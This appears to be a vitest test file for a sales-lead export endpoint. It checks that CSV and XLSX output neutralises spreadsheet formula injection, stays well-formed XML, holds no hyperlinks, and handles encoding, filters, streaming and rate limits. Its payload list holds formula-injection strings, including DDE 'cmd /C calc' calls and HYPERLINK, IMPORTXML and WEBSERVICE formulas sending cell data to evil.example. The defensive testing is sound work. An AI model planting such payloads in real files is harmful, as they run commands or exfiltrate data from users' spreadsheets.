import { inflateRawSync } from 'node:zlib'
import { parse } from 'csv-parse/sync'
import excel from 'exceljs'
import { sql } from 'kysely'
import { afterAll, beforeAll, beforeEach, expect, test } from 'vitest'
import { testDatabase } from '../../../tests/support/world/database.ts'
import { hostToken } from '../../../tests/support/world/known/known-apps.ts'
import { knownEnterprise } from '../../../tests/support/world/known/known-enterprise.ts'
import { generous } from '../../../tests/support/world/known/known-lead.ts'
import { clientOf, putLead } from '../../../tests/support/world/known/known-leads.ts'
import { lin } from '../../../tests/support/world/known/known-people.ts'
import { knownSettings } from '../../../tests/support/world/known/known-settings.ts'
import { createApp } from '../app.ts'
import type { Limits } from '../core/limit-table.ts'
import type { LeadFilter } from './lead-rows.ts'

const { db, drop } = await testDatabase()
const enterpriseCode = 'E1001'
let token: string

beforeAll(async () => {
  await knownEnterprise(db)
  token = await hostToken(db, lin.uid)
})
beforeEach(() => db.deleteFrom('lead').execute())
afterAll(drop)

function fetchExport(query: Record<string, string> = {}, limits: Limits = generous, language = 'EN') {
  const app = createApp({ db, settings: { ...knownSettings(), limits } })
  const info = encodeURIComponent(JSON.stringify({ language, eventKey: '', appKey: '', from: 'H5' }))
  return app.fetch(
    new Request(`http://api.test/user/lead/export?${new URLSearchParams({ enterpriseCode, ...query })}`, {
      headers: { authorization: token, 'client-info': info },
    }),
  )
}

async function csvRows(query: Record<string, string> = {}): Promise<Record<string, string>[]> {
  const answer = await fetchExport(query)
  return parse(Buffer.from(await answer.arrayBuffer()), { bom: true, columns: true })
}

async function sheetRows(query: Record<string, string> = {}) {
  const answer = await fetchExport({ ...query, format: 'XLSX' })
  const book = new excel.Workbook()
  await book.xlsx.load((await answer.arrayBuffer()) as excel.Buffer)
  const sheet = book.worksheets[0]
  if (!sheet) throw new Error('The workbook has no sheet.')
  return sheet
}

/** Details that make spreadsheet programs run something, where nobody looks after them. */
const payloads = [
  '=1+1',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("https://evil.example?"&A1,"Click")',
  '=IMPORTXML("https://evil.example","//a")',
  '=WEBSERVICE("https://evil.example")',
  '=DDE("cmd";"/C calc";"x")',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '+1+1',
  "+cmd|' /C calc'!A0",
  '-1+1',
  "-2+3+cmd|' /C calc'!D2",
  '%0A=1+1',
  '\u0001=1+1',
  '\u200B=1+1',
  '\uFEFF=1+1',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1)',
  'a;=1+1',
  'a;"=1+1"',
  'a\t=1+1',
  'a\n=1+1',
  'a\r\n@SUM(1)',
  '"=1+1"',
  '","=1+1","',
  '=1+1;=2+2',
]

const formula = /^[\s\p{Cc}\p{Cf}]*[=+\-@＝＋－＠]/u

test.each([',', ';', '\t'])(
  'no cell of a CSV is a formula, also where a program takes %j for the separator',
  async (delimiter) => {
    for (const name of payloads) await putLead(db, { name, company: name, message: name.slice(0, 100) })

    const text = await (await fetchExport()).text()

    const loose = { delimiter, bom: true, relax_quotes: true, relax_column_count: true }
    const cells: string[] = (parse(text, loose) as string[][]).flat()
    expect(cells.filter((cell) => formula.test(cell))).toEqual([])
  },
)

test('every cell of a workbook is a text, whatever visitors call themselves', async () => {
  for (const name of payloads) await putLead(db, { name, company: name })

  const sheet = await sheetRows()

  const kinds = new Set<excel.ValueType>()
  sheet.eachRow((row) => row.eachCell((cell) => kinds.add(cell.type)))
  expect([...kinds]).toEqual([excel.ValueType.String])
  expect(sheet.rowCount).toBe(payloads.length + 1)
})

/** The files of a workbook as they were written, by name. */
async function filesOf(answer: Response) {
  const bytes = Buffer.from(await answer.arrayBuffer())
  const files = new Map<string, string>()
  const end = bytes.lastIndexOf(Buffer.from('PK\x05\x06'))
  let at = bytes.readUInt32LE(end + 16)
  for (let left = bytes.readUInt16LE(end + 10); left > 0; left--) {
    const [packed, nameLength] = [bytes.readUInt32LE(at + 20), bytes.readUInt16LE(at + 28)]
    const start = bytes.readUInt32LE(at + 42)
    const name = bytes.toString('utf8', at + 46, at + 46 + nameLength)
    const from = start + 30 + bytes.readUInt16LE(start + 26) + bytes.readUInt16LE(start + 28)
    const content = bytes.subarray(from, from + packed)
    files.set(name, (bytes.readUInt16LE(at + 10) ? inflateRawSync(content) : content).toString('utf8'))
    at += 46 + nameLength + bytes.readUInt16LE(at + 30) + bytes.readUInt16LE(at + 32)
  }
  return files
}

/** Characters that no XML 1.0 may hold. A program that reads one calls the whole workbook damaged. */
const forbiddenInXml = /[^\t\n\r\x20-\ud7ff\ue000-\ufffd\u{10000}-\u{10ffff}]/u

test('a workbook is well-formed whatever visitors typed, and links to nothing', async () => {
  const odd = [
    'a\uffffb',
    'a\ufffeb',
    '\u0001\u0008\u000b\u001f',
    'a\u0085b\u2028c',
    '😀'.repeat(60),
    ']]>&amp;<x y="z">',
  ]
  const links = ['https://evil.example/x', 'mailto:a@evil.example', 'file:///c:/x', '\\\\evil\\x', '#Sheet1!A1']
  for (const name of [...payloads, ...odd, ...links]) await putLead(db, { name, company: name })

  const files = await filesOf(await fetchExport({ format: 'XLSX' }))

  const sheet = files.get('xl/worksheets/sheet1.xml') ?? ''
  expect([...files].filter(([, xml]) => forbiddenInXml.test(xml)).map(([name]) => name)).toEqual([])
  expect([...files.values()].join('')).not.toMatch(/<hyperlink|relationships\/hyperlink|<f[ >/]|TargetMode="External"/)
  expect(sheet.match(/<c [^>]*t="(?!str"|inlineStr")/)).toBe(null)
  expect(sheet.split('😀'.repeat(60))).toHaveLength(3)
  for (const link of links) expect(sheet).toContain(`>${link}<`)
})

test('a character that no workbook may hold is left out, and the words around it stay', async () => {
  await putLead(db, { name: 'Ve\uffffra\ufffe' })

  expect((await filesOf(await fetchExport({ format: 'XLSX' }))).get('xl/worksheets/sheet1.xml')).toContain('>Vera<')
})

test('numbers keep their dialling code and their zeros', async () => {
  await putLead(db, { phone: '0212345678', company: '007' })

  const [row] = await csvRows()
  const sheet = await sheetRows()

  expect(row).toMatchObject({ Phone: "'+86 0212345678", Company: '007', Status: 'New', Submissions: '1' })
  expect(sheet.getRow(2).values).toContain('+86 0212345678')
})

test('a CSV says that it is UTF-8, so that Han and Arabic can be read', async () => {
  await putLead(db, { name: '张明 عمر' })

  const bytes = Buffer.from(await (await fetchExport()).arrayBuffer())

  expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf])
  expect(bytes.toString()).toContain('张明 عمر')
})

test('heads and names come in the language of the reader, that of who shared the page too', async () => {
  await putLead(db, { source_relation_code: enterpriseCode, relation_code: 'P1001' })

  const answer = await fetchExport({}, generous, 'CN')

  const [row] = parse(Buffer.from(await answer.arrayBuffer()), { bom: true, columns: true })
  expect(row).toMatchObject({ 分享者: '诺凡热控', 咨询内容: 'P4板式换热器' })
})

const filters: Omit<LeadFilter, 'enterpriseCode'>[] = [
  {},
  { status: 'CONTACTED' },
  { channel: 'IM_CHAT' },
  { intention: 'OTHER' },
  { assigneeUid: lin.uid },
  { assigneeUid: 'nobody' },
  { search: 'vera 3' },
  { to: new Date(Date.now() - 30 * 60_000).toISOString() },
]
test.each(filters)('with the filters %j an export has the leads of the list, in its order', async (filter) => {
  for (let age = 60; age > 0; age--) {
    await putLead(db, {
      ...{ name: `Vera ${age}`, age, status: age % 2 ? 'NEW' : 'CONTACTED' },
      ...{ channel: age % 3 ? 'BUSINESS_CONSULTATION' : 'IM_CHAT', intention: age % 5 ? 'PURCHASE_PRODUCTS' : 'OTHER' },
      assignee_uid: age % 7 ? null : lin.uid,
    })
  }
  const sales = await clientOf(db, lin.uid)

  const rows = await csvRows(filter as Record<string, string>)

  const { list } = await sales.leadInbox.list({ query: { enterpriseCode, pageSize: 100, ...filter } })
  expect(list.length).toBeGreaterThan(0)
  expect(rows.map((row) => row['Lead ID'])).toEqual(list.map(({ leadId }) => leadId))
})

const fill = (rows: number) =>
  sql`
  insert into lead (id, enterprise_code, target, idempotency_key, body_hash, name, company, phone, phone_country_code,
    email, intention, language, channel, source_type, latest_at)
  select gen_random_uuid(), 'E1001', 'E1001', 'filled-' || one, '\\x00', 'Visitor ' || one, 'Company', '1', '+1',
    'visitor' || one || '@example.org', 'OTHER', 'EN', 'IM_CHAT', 'H5', now() - make_interval(secs => one)
  from generate_series(1, ${rows}::integer) as one`.execute(db)

async function rest(reader: ReadableStreamDefaultReader<Uint8Array>) {
  const chunks: Uint8Array[] = []
  for (let part = await reader.read(); !part.done; part = await reader.read()) chunks.push(part.value)
  return Buffer.concat(chunks)
}
const readerOf = (answer: Response) => (answer.body as ReadableStream<Uint8Array>).getReader()

test('of 5,000 leads the first have left before the last are read', async () => {
  await fill(5000)
  const reader = readerOf(await fetchExport())

  const [mark, heads, first] = [await reader.read(), await reader.read(), await reader.read()]
  await db.deleteFrom('lead').execute()
  const left = (await rest(reader)).toString().match(/"Visitor /g)?.length ?? 0

  expect([mark.done, heads.done, first.done]).toEqual([false, false, false])
  expect(left).toBeLessThan(4000)
})

test('of a workbook of 5,000 leads something has left before the last are read', async () => {
  await fill(5000)
  const workbook = Buffer.from(await (await fetchExport({ format: 'XLSX' })).arrayBuffer())
  const reader = readerOf(await fetchExport({ format: 'XLSX' }))

  const first = await reader.read()
  await db.deleteFrom('lead').execute()
  const left = await rest(reader)

  expect(first.done).toBe(false)
  expect((first.value?.length ?? 0) + left.length).toBeLessThan(workbook.length * 0.8)
})

test('a lead that moves to the top during an export is in it once', async () => {
  await fill(3000)
  const reader = readerOf(await fetchExport())
  await reader.read()

  await sql`update lead set latest_at = now() where name = 'Visitor 2999'`.execute(db)

  expect((await rest(reader)).toString().match(/"Visitor 2999"/g)).toHaveLength(1)
})

test('a member exports only so often', async () => {
  const limits = { ...generous, leadExportsPerPerson: { max: 1, seconds: 600 } }
  await db.deleteFrom('rate_limit').execute()

  const statuses = [await fetchExport({}, limits), await fetchExport({}, limits)].map(({ status }) => status)

  expect(statuses).toEqual([200, 429])
})

test('an export of some leads holds those of the filter only, in the order of the list', async () => {
  const [closed, first, second] = [
    await putLead(db, { name: 'Closed', status: 'CLOSED' }),
    await putLead(db, { name: 'Berta' }),
    await putLead(db, { name: 'Adam' }),
  ]
  await putLead(db, { name: 'Not picked' })
  const foreign = await putLead(db, { name: 'Foreign', target: 'E1002' })

  const rows = await csvRows({ status: 'NEW', sort: 'name', leadIds: [closed, first, second, foreign, 'x'].join() })

  expect(rows.map((row) => row.Name)).toEqual(['Adam', 'Berta'])
})
